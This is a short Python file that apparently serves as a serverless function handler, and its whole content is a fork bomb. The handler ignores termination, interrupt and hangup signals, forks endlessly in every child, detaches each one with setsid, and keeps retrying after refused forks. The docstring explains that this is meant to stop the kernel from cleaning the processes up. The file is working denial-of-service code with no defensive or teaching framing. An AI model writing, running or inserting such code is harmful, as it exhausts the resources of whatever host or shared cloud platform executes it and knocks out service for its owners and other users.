import os
import signal
import time


def main_handler(event, context):
    """Fork for ever, in every process, deaf to polite signals. Refused ones try again, but leave the kernel its breath:
    a refused fork costs it as much as one that is not, and a thousand processes at that keep it from ending them."""
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            time.sleep(0.2)
